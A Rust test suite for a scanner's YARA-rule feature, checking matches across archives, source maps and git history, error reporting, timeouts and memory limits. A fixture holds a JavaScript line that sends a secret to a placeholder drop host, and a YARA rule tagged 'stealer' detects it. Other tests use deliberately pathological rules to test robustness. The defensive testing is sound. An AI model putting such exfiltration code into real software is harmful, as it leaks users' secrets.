//! YARA rules of the user's own, over everything that is read. Built without the feature `yara`, the program says how to get
//! it; built with it, libyara (through yara-python) says what must be found.

mod common;

use std::fs;

use common::*;

/// A rule that finds a word, and says how bad that is.
#[cfg(feature = "yara")]
const RULES: &str = r#"
import "console"

rule drop_host : stealer js
{
    meta:
        description = "a host of the \x1bmade-up loader"
        author = "somebody"
        severity = "high"
        seen = 3
    strings:
        $host = "drop.acme.example"
        $call = /fetch\(['"]/
    condition:
        $host and $call and console.log("not printed")
}

rule packed { condition: uint16be(0) == 0x1f8b }
"#;

#[cfg(not(feature = "yara"))]
#[test]
fn without_the_feature_the_program_says_how_to_get_it() {
    let folder = scratch();
    let rules = folder.path().join("a.yar");
    fs::write(&rules, "rule a { condition: true }").unwrap();
    let at = |name: &str| folder.path().join(name).into_os_string();
    let asked = ["scan".into(), at("."), "--yara".into(), at("a.yar")];
    run(asked)
        .expect(2)
        .says("cargo install --path . --features yara");
    let asked = [
        "compare".into(),
        at("."),
        at("."),
        "--yara".into(),
        at("a.yar"),
    ];
    run(asked).expect(2).says("built without YARA");
}

#[cfg(feature = "yara")]
mod with_the_feature {
    use std::collections::{BTreeMap, BTreeSet};
    use std::ffi::OsString;
    use std::path::Path;
    use std::process::Command;

    use serde_json::{Value, json};

    use super::*;

    /// Class and locator of all matches.
    fn found(records: &Records) -> Vec<(&str, &str)> {
        matches(records)
            .map(|row| (text(row, "class"), text(row, "locator")))
            .collect()
    }

    fn matches(records: &Records) -> impl Iterator<Item = &Value> {
        let rows = records.0.iter();
        rows.filter(|row| row["type"] == "exposure" && !row["yara"].is_null())
    }

    /// Scans `input` of a folder with the rules of `rules.yar`.
    fn scan_with(folder: &Path, status: i32, more: &[&str]) -> Records {
        let mut arguments: Vec<OsString> = vec![
            folder.join("input").into(),
            "--inventory".into(),
            "none".into(),
            "--yara".into(),
            folder.join("rules.yar").into(),
        ];
        arguments.extend(more.iter().map(Into::into));
        scan(status, arguments)
    }

    #[test]
    fn a_match_says_which_rule_it_was_and_where_and_never_what() {
        let folder = scratch();
        let script = "await fetch('https://drop.acme.example/x?k=SEKRIT')\n";
        let package = tgz(&[("package/a.js", script)]);
        write_all(
            folder.path(),
            &[("rules.yar", RULES.as_bytes()), ("input/a.tgz", &package)],
        );
        let records = scan_with(folder.path(), 0, &[]);
        let want = [
            ("yara:rules/packed", "input/a.tgz"),
            ("yara:rules/drop_host", "input/a.tgz!/package/a.js"),
        ];
        assert_eq!(found(&records), want);
        let row = matches(&records).nth(1).unwrap();
        assert_eq!(row["severity"], "high");
        assert_eq!(row["certainty"], "hint");
        assert_eq!(row["sha256"], sha256(script.as_bytes()));
        let yara = json!({
            "rule": "drop_host",
            "namespace": "rules",
            "tags": ["stealer", "js"],
            "meta": {
                "author": "somebody",
                "description": "a host of the \\u{1b}made-up loader",
                "seen": "3",
                "severity": "high",
            },
            "patterns": [
                { "id": "$host", "places": 1, "at": [[21, 17]] },
                { "id": "$call", "places": 1, "at": [[6, 7]] },
            ],
            "more_patterns": 0,
            "more_rules": 0,
        });
        assert_eq!(row["yara"], yara);
        assert_eq!(matches(&records).next().unwrap()["severity"], "medium");
        let all = format!("{:?}", records.0);
        assert!(!all.contains("SEKRIT") && !all.contains("drop.acme.example"));
        let run = &records.0[0]["yara"];
        assert_eq!(
            (&run["rules"], &run["files"], &run["left_out"]),
            (&json!(2), &json!(1), &json!(0))
        );
        assert!(text(run, "engine").starts_with("yara-x "));
        run_quietly(folder.path());
    }

    /// What a rule prints is not printed, and the wall stands.
    fn run_quietly(folder: &Path) {
        let asked = [
            "scan".into(),
            folder.join("input").into_os_string(),
            "--yara".into(),
            folder.join("rules.yar").into(),
        ];
        let ran = run(asked).expect(0);
        assert!(!ran.text().contains("not printed") && !ran.stderr.contains("not printed"));
        ran.says("2 YARA rules of your own, in 1 file")
            .prints("yara:rules/drop_host input/a.tgz!/package/a.js")
            .prints("its author says: a host of the");
    }

    #[test]
    fn everything_that_is_read_is_searched() {
        let folder = scratch();
        let word = "// drop.acme.example\n";
        let map = source_map(&[("../src/a.ts", Some(word)), ("../src/b.ts", None)]);
        let inline = format!("var x;\n//# sourceMappingURL={}\n", data_url(&map));
        let inner = zip(&[("deep/a.txt", word)]);
        let rule = r#"rule word { strings: $a = "drop.acme.example" condition: $a }"#;
        write_all(
            folder.path(),
            &[
                ("rules.yar", rule.as_bytes()),
                ("input/plain.txt", word.as_bytes()),
                ("input/a.js.map", map.as_bytes()),
                ("input/inline.js", inline.as_bytes()),
                ("input/twice.tgz", &tgz(&[("x/inner.zip", inner)])),
                ("input/stream.gz", &gzip(word.as_bytes())),
                ("input/no.txt", b"nothing"),
            ],
        );
        let repository = folder.path().join("input/clone");
        fs::create_dir(&repository).unwrap();
        git(&repository, ["init", "-q", "."]);
        fs::write(repository.join("old.txt"), format!("old {word}")).unwrap();
        git(&repository, ["add", "."]);
        git(
            &repository,
            [
                "-c",
                "user.name=a",
                "-c",
                "user.email=a@b.example",
                "commit",
                "-qm",
                "x",
            ],
        );
        fs::remove_file(repository.join("old.txt")).unwrap();
        let records = scan_with(folder.path(), 0, &[]);
        let at: Vec<&str> = found(&records).iter().map(|one| one.1).collect();
        for want in [
            "input/plain.txt",
            "input/a.js.map",
            "input/a.js.map!/../src/a.ts",
            "input/twice.tgz!/x/inner.zip!/deep/a.txt",
            "input/stream.gz!/",
        ] {
            assert!(at.contains(&want), "{want}: {at:#?}");
        }
        let within = |begin: &str, end: &str| {
            let is_it = |one: &&&str| one.starts_with(begin) && one.ends_with(end);
            at.iter().filter(is_it).count()
        };
        assert_eq!(within("input/inline.js!/", "!/../src/a.ts"), 1, "{at:#?}");
        assert_eq!(within("input/clone/.git!/", ""), 1, "{at:#?}");
        assert!(!at.contains(&"input/no.txt"));
    }

    #[test]
    fn what_cannot_be_run_is_told_with_its_place() {
        let folder = scratch();
        let input = folder.path().join("input");
        fs::create_dir(&input).unwrap();
        fs::write(input.join("a.txt"), "x").unwrap();
        let rules = folder.path().join("rules.yar");
        let said = |source: &str, words: &str| {
            fs::write(&rules, source).unwrap();
            let asked = [Path::new("scan"), &input, Path::new("--yara"), &rules];
            run(asked).expect(2).says(words).says("rules.yar:");
        };
        said(
            "rule a {\n  condition: tru\n}",
            "rules.yar:2:14: unknown identifier",
        );
        said(
            "rule a {\n  strings: $a = /(/\n  condition: $a }",
            "rules.yar:2:",
        );
        said(
            "rule a { condition: true }\nrule a { condition: true }",
            ":2:6: duplicate rule",
        );
        said(
            "include \"other.yar\"",
            "rules.yar:1:1: include statements not allowed",
        );
        said(
            "import \"nothing\"\nrule a { condition: true }",
            "rules.yar:1:1: unknown module",
        );
        said("rule a { condition: \u{202e} }", "rules.yar:1:");
        let many = "rule a { condition: x }\n".repeat(2000);
        said(&many, " more");
        fs::write(&rules, b"rule \xff { condition: true }").unwrap();
        let asked = |rules: &Path| run([Path::new("scan"), &input, Path::new("--yara"), rules]);
        asked(&rules).expect(2).says("rules.yar:1:");
        fs::write(&rules, "// none\n").unwrap();
        asked(&rules).expect(2).says("hold no rule that can be run");
        asked(&input).expect(2).says("no .yar or .yara lies in");
        asked(Path::new("/no/such/file"))
            .expect(2)
            .says("/no/such/file");
        fs::write(&rules, "rule a { condition: true }").unwrap();
        let triage = ["--triage", "--signatures", "x"].map(Path::new);
        let asked = [Path::new("scan"), &input, Path::new("--yara"), &rules];
        run(asked.into_iter().chain(triage))
            .expect(2)
            .says("--triage reads none");
    }

    #[test]
    fn rules_that_ask_for_what_is_not_there_are_named_and_the_others_run() {
        let folder = scratch();
        let rules = "import \"cuckoo\"\nimport \"time\"\nimport \"pe\"\n\
            rule a { condition: cuckoo.sync.mutex(/x/) }\nrule b { condition: a }\n\
            rule c { condition: time.now() > 0 }\nrule d { condition: filesize == 1 and not pe.is_pe }\n";
        let nested = "rule d { condition: true }";
        write_all(
            folder.path(),
            &[
                ("rules/one.yar", rules),
                ("rules/deep/one.yara", nested),
                ("rules/README.md", "rule e { condition: true }"),
                ("input/a.txt", "x"),
            ],
        );
        let asked = |name: &str| folder.path().join(name).into_os_string();
        let arguments = [
            "--yara".into(),
            asked("rules"),
            "--jsonl".into(),
            "-".into(),
        ];
        let scan = ["scan".into(), asked("input")].into_iter().chain(arguments);
        let ran = run(scan)
            .expect(0)
            .says("2 YARA rules of your own, in 2 files")
            .says("the module cuckoo: a")
            .says("the rule a, which is not run: b")
            .says("the module time: c");
        let records = ran.records();
        let want = [
            ("yara:deep/one/d", "input/a.txt"),
            ("yara:one/d", "input/a.txt"),
        ];
        assert_eq!(found(&records), want);
        assert_eq!(records.0[0]["yara"]["left_out"], 3);
    }

    #[test]
    fn rules_that_take_too_long_are_a_problem_of_the_content() {
        let folder = scratch();
        let rules = r#"
            rule slow { condition: filesize == 7 and
                for all i in (0..1000000000) : (for all j in (0..1000000000) : (i + j >= 0)) }
            rule quick { condition: filesize == 6 }"#;
        write_all(
            folder.path(),
            &[
                ("rules.yar", rules),
                ("input/a.txt", "seven!!"),
                ("input/b.txt", "six..."),
                ("input/c.txt", "seven!!"),
            ],
        );
        let records = scan_with(folder.path(), 3, &["--yara-timeout", "1", "--jobs", "2"]);
        let want = [
            ("yara-timeout", "input/a.txt"),
            ("yara-timeout", "input/c.txt"),
        ];
        assert_eq!(records.problems(), want);
        assert_eq!(found(&records), [("yara:rules/quick", "input/b.txt")]);
        let accepted = ["--yara-timeout", "1", "--accept-problem", "yara-timeout"];
        scan_with(folder.path(), 0, &accepted);
    }

    #[test]
    fn rules_and_finds_of_one_content_are_bounded() {
        let folder = scratch();
        let rule = |number: u32| {
            format!(
                "rule r{number} {{ strings: $a = \"word{number:x}\" condition: $a or filesize == 3 }}\n"
            )
        };
        let rules: String = (0..3_000).map(rule).collect();
        write_all(
            folder.path(),
            &[
                ("rules.yar", rules.as_bytes()),
                ("input/a.txt", b"all"),
                ("input/many.txt", "word7 ".repeat(100_000).as_bytes()),
            ],
        );
        let records = scan_with(folder.path(), 0, &[]);
        let of = |at: &str| {
            let rows = matches(&records).filter(|row| row["locator"] == at);
            rows.cloned().collect::<Vec<_>>()
        };
        let all = of("input/a.txt");
        assert_eq!(all.len(), 256);
        assert_eq!(
            all.iter()
                .map(|row| number(&row["yara"], "more_rules"))
                .sum::<u64>(),
            2_744
        );
        let [many] = &of("input/many.txt")[..] else {
            panic!("one rule has the word")
        };
        let pattern = &many["yara"]["patterns"][0];
        assert_eq!(number(pattern, "places"), 10_000);
        assert_eq!(pattern["at"].as_array().unwrap().len(), 8);
    }

    #[test]
    fn hostile_rules_do_not_end_the_program() {
        let folder = scratch();
        write_all(
            folder.path(),
            &[("input/a.txt", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaab")],
        );
        let deep = |open: &str, close: &str| {
            let (open, close) = (open.repeat(20_000), close.repeat(20_000));
            format!("rule a {{ condition: {open}true{close} }}")
        };
        let expressions = [
            deep("(", ")"),
            deep("not ", ""),
            "rule a { strings: $a = /(a+)+(a+)+(a+)+c/ condition: $a }".to_owned(),
            format!(
                "rule a {{ strings: $a = /{}a{}/ condition: $a }}",
                "(".repeat(5_000),
                ")".repeat(5_000)
            ),
            "rule a { strings: $a = /(((a{1,1000}){1,1000}){1,1000}){1,1000}/ condition: $a }"
                .to_owned(),
        ];
        for rules in expressions {
            fs::write(folder.path().join("rules.yar"), &rules).unwrap();
            let asked = ["input", "rules.yar"].map(|name| folder.path().join(name));
            let ran = run([Path::new("scan"), &asked[0], Path::new("--yara"), &asked[1]]);
            assert!(
                matches!(ran.status, Some(0 | 2)),
                "{}: {}",
                &rules[..60],
                ran.text()
            );
        }
    }

    #[test]
    fn threads_change_nothing_and_other_rules_read_again() {
        let folder = scratch();
        for number in 0..40_u64 {
            let name = format!("{number}.tgz");
            let path = folder.path().join("input").join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, package(number)).unwrap();
        }
        let rules = folder.path().join("rules.yar");
        let source = r#"rule offset_value { strings: $a = /of[0-9]+ = '[0-9a-f]{8}/ condition: $a }
            rule packed { condition: uint16be(0) == 0x1f8b }"#;
        fs::write(&rules, source).unwrap();
        let one = scan_with(folder.path(), 0, &["--jobs", "1"]).normalised();
        let two = scan_with(folder.path(), 0, &["--jobs", "2"]).normalised();
        assert_same(&one, &two, "threads");
        assert_eq!(found(&one).len(), 3 * 40, "package, map and source");
        let case = folder.path().join("a.case");
        let into = ["--case", case.to_str().unwrap()];
        let before = scan_with(folder.path(), 0, &into).normalised();
        assert_eq!(found(&before), found(&one));
        let again = scan_with(folder.path(), 0, &into).normalised();
        assert_same(&before, &again, "the same again");
        fs::write(&rules, source.replace("packed", "gzipped")).unwrap();
        let other = scan_with(folder.path(), 0, &into);
        assert_ne!(other.0[0]["yara"]["digest"], before.0[0]["yara"]["digest"]);
        let classes: BTreeSet<&str> = found(&other).iter().map(|one| one.0).collect();
        assert_eq!(
            classes.into_iter().collect::<Vec<_>>(),
            ["yara:rules/gzipped", "yara:rules/offset_value"]
        );
    }

    #[test]
    fn what_is_too_large_to_be_held_is_said_not_to_be_searched() {
        let folder = scratch();
        let text = Random::new(5).text(24 << 20);
        let small = tar(&[("a.txt", "word"), ("large.txt", text.as_str())]);
        write_all(
            folder.path(),
            &[
                (
                    "rules.yar",
                    "rule word { strings: $a = \"word\" condition: $a }".as_bytes(),
                ),
                ("input/a.tar", &small),
            ],
        );
        let records = scan_with(folder.path(), 3, &["--memory", "32M"]);
        assert_eq!(found(&records), [("yara:rules/word", "input/a.tar!/a.txt")]);
        for (at, code) in [
            ("input/a.tar", "yara-memory"),
            ("input/a.tar!/large.txt", "memory-limit"),
        ] {
            let row = records.at("problem", at);
            assert_eq!(text_of(row, "code"), code);
            assert!(
                text_of(row, "detail").contains("no YARA rule was run over it"),
                "{row}"
            );
        }
        let records = scan_with(folder.path(), 0, &[]);
        assert_eq!(found(&records).len(), 2);
    }

    fn text_of<'a>(row: &'a Value, key: &str) -> &'a str {
        text(row, key)
    }

    #[test]
    fn in_a_copy_it_is_a_sign_unless_the_original_has_it_too() {
        let folder = scratch();
        let rules = r#"
            rule ours { strings: $a = "telemetry" condition: $a }
            rule theirs { meta: severity = "high" strings: $a = "drop.acme.example" condition: $a }"#;
        write_all(
            folder.path(),
            &[
                ("rules.yar", rules),
                ("original/a.js", "send('telemetry');\n"),
                ("original/b.js", "let b = 1;\n"),
                ("copy/a.js", "send('telemetry');\n"),
                (
                    "copy/b.js",
                    "let b = 1; send('telemetry', 'drop.acme.example');\n",
                ),
                ("copy/c.js", "// telemetry\n"),
            ],
        );
        let at = |name: &str| folder.path().join(name).into_os_string();
        let compare = |more: &[&str]| {
            let mut asked: Vec<OsString> = vec!["compare".into(), at("original"), at("copy")];
            asked.extend(more.iter().map(Into::into));
            run(asked)
        };
        let rules = at("rules.yar").into_string().unwrap();
        let with = ["--yara", &rules, "--jsonl", "-"];
        let records = compare(&with).expect(0).records();
        let signs: Vec<_> = records
            .all("sign")
            .filter(|sign| text(sign, "rule").starts_with("yara:"))
            .map(|sign| {
                (
                    text(sign, "rule"),
                    text(sign, "path"),
                    text(sign, "severity"),
                )
            })
            .collect();
        assert_eq!(signs, [("yara:rules/theirs", "b.js", "high")]);
        assert_eq!(records.0[0]["yara"]["rules"], 2);
        compare(&["--yara", &rules, "--fail-on", "high"])
            .expect(1)
            .prints("yara:rules/theirs");
        let slow = "rule slow { condition: filesize > 20 and for all i in (0..1000000000) : (for all j in (0..1000000000) : (i + j >= 0)) }";
        fs::write(&rules, slow).unwrap();
        let slowly = ["--yara", &rules, "--yara-timeout", "1", "--jsonl", "-"];
        let records = compare(&slowly).expect(3).records();
        assert_eq!(records.problems(), [("yara-timeout", "copy/b.js")]);
    }

    /// What yara-python finds; `None` where there is none.
    fn oracle(
        rules: &[&Path],
        packages: &[&Path],
    ) -> Option<BTreeMap<String, BTreeMap<String, Vec<Value>>>> {
        let mut command = Command::new("python3");
        command.arg("-B").arg(fixtures().join("yara_oracle.py"));
        command.args(rules).arg("--").args(packages);
        let output = command.output().unwrap();
        if output.status.code() == Some(3) {
            let why = String::from_utf8_lossy(&output.stderr).into_owned();
            skipped("YARA's own engine", &why, "STRANDLINE_REQUIRE_YARA");
            return None;
        }
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        Some(serde_json::from_slice(&output.stdout).unwrap())
    }

    #[test]
    fn yara_itself_finds_the_same_in_real_packages() {
        let Some(all) = packages() else { return };
        let small = |path: &&std::path::PathBuf| fs::metadata(path).unwrap().len() < 3 << 20;
        let chosen: Vec<&Path> = all
            .iter()
            .filter(small)
            .take(6)
            .map(|path| path.as_path())
            .collect();
        let folder = scratch();
        let signs = fixtures().join("yara/signs.yar");
        let words = folder.path().join("words.yar");
        fs::write(&words, words_of(&chosen)).unwrap();
        let Some(want) = oracle(&[&signs, &words], &chosen) else {
            return;
        };
        let mut arguments: Vec<OsString> =
            chosen.iter().map(|path| path.as_os_str().into()).collect();
        arguments.extend(["--inventory", "none", "--yara"].map(OsString::from));
        arguments.extend([signs.into_os_string(), words.into_os_string()]);
        let ran = run([OsString::from("scan"), "--jsonl".into(), "-".into()]
            .into_iter()
            .chain(arguments));
        let records = ran.records();
        let mut ours: BTreeMap<String, BTreeMap<String, Value>> = BTreeMap::new();
        for row in matches(&records) {
            let rule = text(row, "class").strip_prefix("yara:").unwrap().to_owned();
            let rules = ours.entry(text(row, "sha256").to_owned()).or_default();
            rules.insert(rule, row["yara"]["patterns"].clone());
        }
        let (mut pairs, mut wrong) = (0, Vec::new());
        for (sha256, rules) in &want {
            let none = BTreeMap::new();
            let found = ours.get(sha256).unwrap_or(&none);
            pairs += rules.len();
            let (theirs, mine): (BTreeSet<&String>, BTreeSet<&String>) =
                (rules.keys().collect(), found.keys().collect());
            if theirs != mine {
                wrong.push(format!(
                    "{sha256}: {:?}",
                    theirs.symmetric_difference(&mine)
                ));
            }
            for (rule, patterns) in found {
                wrong.extend(
                    places_differ(rules.get(rule), patterns)
                        .map(|why| format!("{sha256} {rule}: {why}")),
                );
            }
        }
        assert!(wrong.is_empty(), "{} of {pairs}: {wrong:#?}", wrong.len());
        let rules: BTreeSet<&String> = want.values().flat_map(BTreeMap::keys).collect();
        assert!(
            pairs > 3_000 && rules.len() > 80,
            "{pairs} pairs of {} rules",
            rules.len()
        );
    }

    /// Where the places of a pattern are others than YARA's; those of plain words, since of an expression each engine may
    /// tell another length.
    fn places_differ(theirs: Option<&Vec<Value>>, patterns: &Value) -> Option<String> {
        let theirs = theirs?;
        for pattern in patterns
            .as_array()?
            .iter()
            .filter(|one| one["id"] == "$word")
        {
            let id = &pattern["id"];
            let want: Vec<Value> = theirs
                .iter()
                .filter(|place| place[0] == *id)
                .map(|place| json!([place[1], place[2]]))
                .collect();
            let told = pattern["at"].as_array()?;
            if number(pattern, "places") != want.len() as u64 || !want.starts_with(told) {
                return Some(format!("{want:?} and not {pattern}"));
            }
        }
        None
    }

    /// A hundred rules, of words that stand in the packages.
    fn words_of(packages: &[&Path]) -> String {
        let mut words: BTreeMap<String, u64> = BTreeMap::new();
        for path in packages {
            let file = fs::File::open(path).unwrap();
            let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(file));
            for member in archive.entries().unwrap() {
                let mut text = String::new();
                if std::io::Read::read_to_string(&mut member.unwrap(), &mut text).is_err() {
                    continue;
                }
                for word in text.split(|letter: char| !letter.is_ascii_alphanumeric()) {
                    if (7..20).contains(&word.len()) && words.len() < 50_000 {
                        *words.entry(word.to_owned()).or_insert(0) += 1;
                    }
                }
            }
        }
        let mut words: Vec<(u64, String)> = words
            .into_iter()
            .map(|(word, count)| (count, word))
            .collect();
        words.sort_by(|a, b| b.cmp(a));
        let modifiers = ["", "fullword", "nocase", "ascii wide", "nocase fullword"];
        let rule = |(number, (_, word)): (usize, (u64, String))| {
            let modifier = modifiers[number % modifiers.len()];
            format!(
                "rule w{number} {{ strings: $word = \"{word}\" {modifier} condition: #word > {} }}\n",
                number % 4
            )
        };
        words
            .into_iter()
            .step_by(7)
            .take(100)
            .enumerate()
            .map(rule)
            .collect()
    }
}
